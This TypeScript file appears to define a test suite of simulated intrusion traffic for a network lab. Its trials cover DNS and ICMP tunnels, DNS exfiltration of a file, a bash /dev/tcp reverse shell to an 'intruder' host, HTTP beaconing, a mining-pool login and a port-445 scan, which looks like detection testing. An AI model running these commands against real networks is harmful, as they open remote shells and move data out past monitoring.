import { hosts, outside, type Place } from './hub.ts'
import type { Trial } from './trial.ts'

const { client, router } = hosts
const intruder = outside.intruder
const listen = (command: string): readonly [Place, string] => [
  'outside',
  `while true; do ${command}; done`,
]

/** What the client does once it is broken into; `source` is the client. */
export const breakIns: readonly Trial[] = [
  {
    name: 'iodine',
    about: 'iodine, a tunnel in DNS',
    command: `iodine -f -r -P secret ${outside.site} t.tunnel.example.org & sleep 6; ping -i 0.2 -s 700 -c 60 10.99.0.1`,
    secondsMax: 30,
    beside: [
      [
        'outside',
        `iodined -f -c -P secret -l ${outside.site} 10.99.0.1 t.tunnel.example.org`,
      ] as const,
    ],
  },
  {
    name: 'dns-leak',
    about: 'a file in the names of DNS',
    command: `head -c 3000 /etc/services | base32 -w 50 | tr -d = | while read x; do dig +time=1 +tries=1 @${router} $x.data.c2.example.org; done`,
    secondsMax: 25,
  },
  {
    name: 'ptunnel',
    about: 'ptunnel, a tunnel in pings',
    command: `ptunnel -p ${intruder} -lp 8000 -da ${intruder} -dp 2222 & sleep 2; for i in 1 2 3; do timeout 4 ncat 127.0.0.1 8000 < /etc/services; done`,
    secondsMax: 20,
    beside: [['outside', 'ptunnel'] as const, listen(`ncat -l ${intruder} 2222 < /etc/services`)],
  },
  {
    name: 'reverse-shell',
    about: 'a reverse shell by bash',
    source: intruder,
    command: `bash -c 'bash -i >& /dev/tcp/${intruder}/4444 0>&1'`,
    secondsMax: 15,
    beside: [
      listen(
        `(sleep 2; for c in id whoami 'uname -a' exit; do echo $c; sleep 1; done) | ncat -l ${intruder} 4444`,
      ),
    ],
  },
  {
    name: 'beacon-http',
    about: 'an HTTP request every 3 s, jitter 15 %',
    command: `while true; do curl -s -o /dev/null http://${intruder}/page7.html; sleep 2.$((RANDOM % 9)); done`,
    secondsMax: 75,
  },
  {
    name: 'miner',
    about: 'a login at a mining pool (Stratum)',
    command: `(echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq","pass":"x","agent":"XMRig/6.18.0"}}'; sleep 3) | timeout 5 ncat ${intruder} 3333`,
    secondsMax: 10,
    beside: [listen(`echo '{"id":1,"result":{"status":"OK"}}' | ncat -l ${intruder} 3333`)],
  },
  {
    name: 'worm',
    about: 'a worm that looks for port 445',
    command: 'for i in $(seq 100 160); do timeout 0.3 ncat -z 10.30.$((RANDOM % 200)).$i 445; done',
    secondsMax: 25,
  },
].map((trial) => ({ from: 'client' as const, source: client, ...trial }))
